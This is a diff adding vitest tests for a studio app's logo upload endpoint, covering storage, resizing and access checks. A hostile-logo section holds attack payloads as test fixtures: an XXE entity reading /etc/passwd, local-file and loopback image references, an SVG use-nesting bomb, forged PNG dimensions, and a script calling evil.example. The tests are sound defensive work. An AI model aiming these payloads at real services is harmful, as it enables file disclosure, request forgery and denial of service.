@@ -1,0 +1,148 @@
+import { describe, expect, it } from 'vitest';
+import sharp from 'sharp';
+import { logos } from '#core/api/logos.ts';
+import { logoIcon, MAX_LOGO_BYTES, readLogo } from '#core/domain/logo.ts';
+import { runOutbox } from '#functions/jobs/outbox-runner.ts';
+import { testApi } from '../support/api.ts';
+import { makeStudio } from '../support/studio.ts';
+
+const api = await testApi();
+
+type Studio = Awaited<ReturnType<typeof makeStudio>>;
+
+/** Uploads a logo as a browser does. */
+async function upload(studio: Studio, file: string | Uint8Array, fields: Record<string, string> = {}) {
+  const body = new FormData();
+  body.set('logo', new Blob([typeof file === 'string' ? file : new Uint8Array(file)]), 'logo');
+  for (const [name, value] of Object.entries(fields)) body.set(name, value);
+  return api.call('POST', '/api/upload/logo', { as: studio.owner, account: studio.id, body });
+}
+
+const valueOf = async (studio: Studio, key: string) => {
+  const sql = 'select value from settings where account_id = $1 and key = $2';
+  return (await api.db.pool.query<{ value: unknown }>(sql, [studio.id, key])).rows[0]?.value;
+};
+const stored = async (path: string) => api.services.storage.get('renditions', path.slice(1));
+
+const svg = (content: string, attributes = 'viewBox="0 0 240 80"') =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${content}</svg>`;
+const WORDMARK = svg(
+  '<circle cx="40" cy="40" r="30" fill="#222"/><rect x="100" y="30" width="130" height="20" fill="#222"/>',
+);
+
+describe('POST /api/upload/logo', () => {
+  it('stores a drawing as PNG with icons, and names its path in the settings', async () => {
+    const studio = await makeStudio(api, 'Llum');
+    const answer = await upload(studio, WORDMARK);
+    expect(answer.status).toBe(201);
+    const { logoUrl, width, height } = answer.read(logos.upload);
+    expect(await valueOf(studio, 'theme.logoUrl')).toBe(logoUrl);
+    // Cut to what is visible: 220 by 60 of 240 by 80.
+    expect(width / height).toBeCloseTo(220 / 60, 1);
+    expect(readLogo(logoUrl)).toEqual({ src: `/api${logoUrl}`, width, height, ink: 'dark' });
+    const logo = await stored(logoUrl);
+    expect(await sharp(logo!.bytes).metadata()).toMatchObject({ format: 'png', width, height, hasAlpha: true });
+    // The icon shows the round mark alone.
+    for (const side of [32, 180] as const) {
+      const icon = await stored(logoIcon(logoUrl, side));
+      expect(await sharp(icon!.bytes).metadata()).toMatchObject({ format: 'png', width: side, height: side });
+      const middle = { left: side / 2, top: side / 2, width: 1, height: 1 };
+      const [red] = await sharp(icon!.bytes).extract(middle).raw().toBuffer();
+      expect(red).toBeLessThan(80);
+    }
+  });
+
+  it.each(['png', 'jpeg', 'webp'] as const)('takes a %s, for the dark theme too', async (format) => {
+    const studio = await makeStudio(api);
+    const picture = sharp({ create: { width: 3000, height: 1000, channels: 4, background: '#e04020' } });
+    const answer = await upload(studio, await picture.toFormat(format).toBuffer(), { variant: 'dark' });
+    const { logoUrl } = answer.read(logos.upload);
+    expect(await valueOf(studio, 'theme.logoDarkUrl')).toBe(logoUrl);
+    expect(await valueOf(studio, 'theme.logoUrl')).toBe('');
+    expect(readLogo(logoUrl)?.ink).toBe('coloured');
+  });
+
+  it('deletes the former logo, and purges it and the pages', async () => {
+    const studio = await makeStudio(api);
+    const first = (await upload(studio, WORDMARK)).read(logos.upload).logoUrl;
+    const second = (await upload(studio, WORDMARK)).read(logos.upload).logoUrl;
+    expect(second).not.toBe(first);
+    api.clock.advance(5 * 60_000);
+    await runOutbox(api.jobs);
+    expect(await stored(first)).toBeNull();
+    expect(await stored(logoIcon(first, 32))).toBeNull();
+    expect(await stored(second)).not.toBeNull();
+    expect(api.purged).toContain(`/api${first}`);
+    expect(api.purged).toContain(`/p/${studio.slug}*`);
+  });
+
+  it('is refused to members who may not change the studio', async () => {
+    const [studio, other] = [await makeStudio(api), await makeStudio(api)];
+    const body = new FormData();
+    body.set('logo', new Blob([WORDMARK]), 'logo.svg');
+    const answer = await api.call('POST', '/api/upload/logo', { as: studio.owner, account: other.id, body });
+    expect(answer.status).toBeGreaterThanOrEqual(400);
+  });
+});
+
+describe('a hostile logo', () => {
+  const studio = makeStudio(api);
+  const huge = 'x'.repeat(40);
+  const bomb = `<defs><g id="a0"><rect width="9" height="9"/></g>${Array.from(
+    { length: 20 },
+    (_, n) => `<g id="a${n + 1}">${`<use xlink:href="#a${n}"/>`.repeat(20)}</g>`,
+  ).join('')}</defs><use xlink:href="#a20"/>`;
+
+  it.each([
+    ['a page', '<html><script>alert(1)</script></html>', 'not_an_image'],
+    ['a GIF', 'GIF89a', 'not_an_image'],
+    [
+      'external entities',
+      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
+      'corrupt',
+    ],
+    ['letters without outlines', svg('<text x="5" y="40">Llum</text>'), 'logo_has_text'],
+    ['a cut drawing', WORDMARK.slice(0, -20), 'corrupt'],
+    ['an empty drawing', svg(''), 'empty'],
+    ['a picture of another file', svg('<image width="90" height="80" xlink:href="file:///etc/hostname"/>'), 'empty'],
+    [
+      'a picture of another host',
+      svg('<image width="90" height="80" xlink:href="http://127.0.0.1:1/x.png"/>'),
+      'empty',
+    ],
+    ['nested copies of copies', svg(bomb), null],
+    ['an unbounded size', svg('<rect width="9" height="9"/>', 'width="1e9" height="1e9"'), null],
+    ['nothing', '', 'empty'],
+  ])('with %s is refused', async (_, file, code) => {
+    const answer = await upload(await studio, file);
+    expect(answer.status).toBeGreaterThanOrEqual(400);
+    expect(answer.status).toBeLessThan(500);
+    if (code) expect(answer.error.code).toBe(code);
+  });
+
+  it('with a cut or an enormous picture is refused', async () => {
+    const png = await sharp({ create: { width: 300, height: 100, channels: 4, background: '#123' } })
+      .png()
+      .toBuffer();
+    const wide = Buffer.from(png);
+    wide.writeUInt32BE(60_000, 16);
+    wide.writeUInt32BE(60_000, 20);
+    for (const bytes of [png.subarray(0, png.length / 2), wide]) {
+      const answer = await upload(await studio, bytes);
+      expect([answer.status >= 400, answer.status < 500]).toEqual([true, true]);
+    }
+    expect((await upload(await studio, new Uint8Array(MAX_LOGO_BYTES + 1))).error.code).toBe('too_large');
+  });
+
+  it('is drawn without its scripts and at a bounded size', async () => {
+    const scripted = svg(
+      `<script>fetch('//evil.example/${huge}')</script><rect width="1e5" height="3e4" fill="#fff" onload="alert(1)"/>`,
+      'viewBox="0 0 100000 50000"',
+    );
+    const answer = await upload(await studio, scripted);
+    const { logoUrl, width, height } = answer.read(logos.upload);
+    expect(Math.max(width, height)).toBeLessThanOrEqual(960);
+    const { bytes } = (await stored(logoUrl))!;
+    expect(Buffer.from(bytes).toString('latin1')).not.toMatch(/script|evil/);
+  });
+});
